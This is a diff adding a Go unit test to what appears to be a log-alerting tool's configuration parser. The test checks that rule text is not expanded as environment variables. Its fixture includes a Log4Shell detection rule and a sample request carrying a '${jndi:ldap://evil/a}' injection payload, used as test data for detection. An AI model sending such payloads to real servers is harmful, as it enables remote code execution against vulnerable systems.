@@ -625,6 +625,32 @@ func TestEnvExpansion(t *testing.T) {
 	bad("${A B}", "invalid variable name `A B`")
 }
 
+// TestNoExpansionInMatchedText: a rule's pattern, text and tests are log
+// content, matched as written, as in the original.
+func TestNoExpansionInMatchedText(t *testing.T) {
+	c := mustParse(t, `
+alerts:
+  a: {type: stdout}
+rules:
+  - name: log4shell
+    text: "${jndi:ldap"
+    alert: a
+    tests:
+      match: ["GET /?q=${jndi:ldap://evil/a} HTTP/1.1"]
+      no_match: ["$HOME $$"]
+  - name: shell_vars
+    pattern: '\$HOME|\$\{TW_UNSET\}'
+    alert: a
+`)
+	r := c.Rules[0]
+	if r.Text != "${jndi:ldap" || r.Tests.Match[0] != "GET /?q=${jndi:ldap://evil/a} HTTP/1.1" || r.Tests.NoMatch[0] != "$HOME $$" {
+		t.Errorf("rule text or tests were expanded: %+v %+v", r, r.Tests)
+	}
+	if got := c.Rules[1].Pattern; got != `\$HOME|\$\{TW_UNSET\}` {
+		t.Errorf("pattern = %q", got)
+	}
+}
+
 // TestEnvOnlyInValues: keys are never expanded, so a `$` in a header name
 // stays and positions stay right.
 func TestEnvOnlyInValues(t *testing.T) {
